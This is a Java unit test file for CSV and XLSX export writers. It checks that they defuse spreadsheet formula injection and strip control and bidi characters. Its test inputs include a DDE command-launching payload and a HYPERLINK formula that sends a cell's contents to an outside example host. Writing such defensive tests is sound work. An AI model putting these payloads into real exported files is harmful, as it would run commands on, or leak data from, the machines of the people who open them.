package org.kapocs.shared.table;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.StringReader;
import java.nio.charset.StandardCharsets;
import java.time.Instant;
import java.time.LocalDate;
import java.time.LocalDateTime;
import java.time.ZoneId;
import java.util.ArrayList;
import java.util.List;
import java.util.stream.IntStream;
import java.util.stream.Stream;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.ss.usermodel.Row;
import org.apache.poi.ss.usermodel.Sheet;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

/** What a list says comes back out of the file as it was, and nothing in it is run, hides itself or breaks the lines. */
class WritersTest {
    private static final Words WORDS = new Words("Ügyek & \"ügyek\"", "…[levágva]", ZoneId.of("Europe/Budapest"), ';');
    private static final String LAST_WORD = "a lista nem ért véget";

    @ParameterizedTest
    @ValueSource(
            strings = {
                "=1+1",
                "+36 1 000 0000",
                "-5",
                "@SUM(A1)",
                "\t=1",
                "\r=1",
                "\n=1",
                " =1",
                "\u00A0=1",
                "\u200B=1",
                "\u200E=1",
                "\uFEFF=1",
                "\"=1",
                "'=1",
                "\uFF1D1",
                "\uFF0B1",
                "\uFF0D1",
                "\uFF201",
                "\u22121",
                "=cmd|' /C calc'!A0",
                "=HYPERLINK(\"https://x.example.org?\"&A1)"
            })
    void what_begins_like_a_formula_is_a_text_in_both(String hostile) throws IOException {
        String inCsv = csv(hostile).getFirst().get(0);
        assertThat(inCsv).startsWith("'");
        org.apache.poi.ss.usermodel.Cell cell = xlsx(hostile).getRow(1).getCell(0);
        assertThat(cell.getCellType()).isEqualTo(CellType.STRING);
        assertThat(cell.getCellStyle().getQuotePrefixed()).isTrue();
    }

    @ParameterizedTest
    @ValueSource(strings = {"a;=1", "a,=1", "a, \"=1", "a|\uFF1D1", "a\";=1", "a;;+1"})
    void what_another_spreadsheet_takes_for_the_next_cell_begins_no_formula_there(String hostile) throws IOException {
        for (char separator : new char[] {',', ';', '|'}) {
            for (String cell : csvText(hostile).split(java.util.regex.Pattern.quote("" + separator))) {
                assertThat(cell.replace("\"", "").strip()).doesNotMatch("(?s)[=+@\uFF1D-].*");
            }
        }
    }

    @Test
    void usual_words_in_any_script_come_back_as_they_were() throws IOException {
        for (String usual : List.of(
                "Őszike Minta",
                "زهرا نمونه‌ای",
                "示例",
                "Мінта",
                "K-2026-0001",
                "a \"b\" c",
                "<b>&amp;</b>",
                "x@y.example.org",
                "5-6",
                "\uD83D\uDE00",
                "]]>",
                "0012",
                "1.2.")) {
            assertThat(csv(usual).getFirst().get(0)).isEqualTo(usual);
            org.apache.poi.ss.usermodel.Cell cell = xlsx(usual).getRow(1).getCell(0);
            assertThat(cell.getStringCellValue()).isEqualTo(usual);
            assertThat(cell.getCellStyle().getQuotePrefixed()).isFalse();
        }
    }

    static Stream<List<String>> broken() {
        return Stream.of(
                List.of("a\nb", "a b"),
                List.of("a\r\nb\tc", "a b c"),
                List.of("a\u2028b\u0085c", "a b c"),
                List.of("a\u202Egpj.exe", "agpj.exe"),
                List.of("\u2068név\u2069", "név"),
                List.of("a\u0000b\u0007c\u001Fd", "abcd"),
                List.of("a\uD83Db\uDE00c\uFFFEd", "abcd"),
                List.of("  a   b  ", "a b"));
    }

    @ParameterizedTest
    @MethodSource("broken")
    void lines_controls_and_turned_text_become_one_plain_line(List<String> each) throws IOException {
        assertThat(csv(each.getFirst()).getFirst().get(0)).isEqualTo(each.getLast());
        assertThat(xlsx(each.getFirst()).getRow(1).getCell(0).getStringCellValue())
                .isEqualTo(each.getLast());
    }

    @Test
    void a_text_that_is_too_long_for_a_cell_says_so_at_its_end_and_no_sign_is_halved() throws IOException {
        String fits = "x".repeat(Plain.MOST);
        assertThat(xlsx(fits).getRow(1).getCell(0).getStringCellValue()).isEqualTo(fits);
        String tooLong = "\uD83D\uDE00".repeat(Plain.MOST);
        String cut = xlsx(tooLong).getRow(1).getCell(0).getStringCellValue();
        assertThat(cut).hasSizeBetween(Plain.MOST - 1, Plain.MOST).endsWith("\uD83D\uDE00" + WORDS.cut());
        assertThat(csv(tooLong).getFirst().get(0)).isEqualTo(cut);
    }

    @Test
    void days_moments_and_numbers_are_what_they_are() throws IOException {
        Listing<Integer> list = list(
                1,
                new Column<>("t", n -> new Cell.Day(LocalDate.of(2026, 11, 30))),
                new Column<>("t", n -> new Cell.Moment(Instant.parse("2026-11-30T23:05:59Z"))),
                new Column<>("t", n -> new Cell.Count(-7)),
                new Column<>("t", n -> Cell.EMPTY));
        CSVRecord line = read(written(Format.CSV, list, 10)).getFirst();
        assertThat(line.toList()).containsExactly("2026-11-30", "2026-12-01 00:05", "-7", "");
        Row row = open(written(Format.XLSX, list, 10)).getRow(1);
        assertThat(row.getCell(0).getLocalDateTimeCellValue()).isEqualTo(LocalDateTime.of(2026, 11, 30, 0, 0));
        assertThat(row.getCell(1).getLocalDateTimeCellValue())
                .isCloseTo(
                        LocalDateTime.of(2026, 12, 1, 0, 5),
                        org.assertj.core.api.Assertions.within(1, java.time.temporal.ChronoUnit.SECONDS));
        assertThat(row.getCell(2).getNumericCellValue()).isEqualTo(-7);
        assertThat(row.getCell(3).getCellType()).isEqualTo(CellType.BLANK);
    }

    @Test
    void a_list_is_read_batch_by_batch_to_its_end_and_also_past_an_empty_batch() throws IOException {
        Listing<Integer> list = list(1_234, new Column<>("t", n -> Cell.text("n" + n)));
        List<CSVRecord> lines = read(written(Format.CSV, list, 10_000));
        assertThat(lines).hasSize(1_234);
        assertThat(lines.getLast().get(0)).isEqualTo("n1233");
        assertThat(open(written(Format.XLSX, list, 10_000)).getLastRowNum()).isEqualTo(1_234);
    }

    @Test
    void a_list_that_has_more_than_a_file_may_have_says_so_in_the_last_line() throws IOException {
        Listing<Integer> list = list(1_234, new Column<>("t", n -> Cell.text("n" + n)));
        List<CSVRecord> lines = read(written(Format.CSV, list, 1_000));
        assertThat(lines).hasSize(1_001);
        assertThat(lines.getLast().get(0)).isEqualTo(LAST_WORD);
        assertThat(read(written(Format.CSV, list, 1_234)).getLast().get(0)).isEqualTo("n1233");
        var cut = new Listing<Integer>("cases", list.columns(), after -> new Batch<>(List.of(1, 2), null, true));
        assertThat(read(written(Format.CSV, cut, 1_000)))
                .hasSize(3)
                .last()
                .satisfies(last -> assertThat(last.get(0)).isEqualTo(LAST_WORD));
    }

    @Test
    void csv_begins_with_its_mark_and_ends_its_lines_as_the_standard_says() throws IOException {
        String text = csvText("á");
        assertThat(text).isEqualTo("\uFEFF\"t\"\r\n\"á\"\r\n");
    }

    @SafeVarargs
    private static Listing<Integer> list(int lines, Column<Integer>... columns) {
        return new Listing<>("cases", List.of(columns), after -> {
            int from = after == null ? 0 : Integer.parseInt(after);
            if (from == 500 && !"0500".equals(after)) {
                return new Batch<>(List.of(), "0500");
            }
            int until = Math.min(lines, from + Batch.LINES);
            return new Batch<>(
                    IntStream.range(from, until).boxed().toList(), until < lines ? Integer.toString(until) : null);
        });
    }

    private static Listing<Integer> one(String text) {
        return list(1, new Column<>("t", n -> Cell.text(text)));
    }

    private static byte[] written(Format format, Listing<Integer> list, int most) throws IOException {
        var out = new ByteArrayOutputStream();
        try (Writer writer = TableWriters.writer(format, WORDS, out)) {
            List<String> titles = list.columns().stream().map(Column::title).toList();
            TableWriters.write(list, titles, most, LAST_WORD, writer, new TableWriters.Progress());
        }
        return out.toByteArray();
    }

    private static String csvText(String text) throws IOException {
        return new String(written(Format.CSV, one(text), 10), StandardCharsets.UTF_8);
    }

    private static List<CSVRecord> csv(String text) throws IOException {
        return read(written(Format.CSV, one(text), 10));
    }

    /** Without the line of titles. */
    private static List<CSVRecord> read(byte[] file) throws IOException {
        String text = new String(file, StandardCharsets.UTF_8).substring(1);
        try (var parser = CSVFormat.RFC4180.builder().setDelimiter(';').get().parse(new StringReader(text))) {
            var records = new ArrayList<>(parser.getRecords());
            records.removeFirst();
            return records;
        }
    }

    private static Sheet xlsx(String text) throws IOException {
        return open(written(Format.XLSX, one(text), 10));
    }

    private static Sheet open(byte[] file) throws IOException {
        try (var book = new XSSFWorkbook(new ByteArrayInputStream(file))) {
            return book.getSheetAt(0);
        }
    }
}
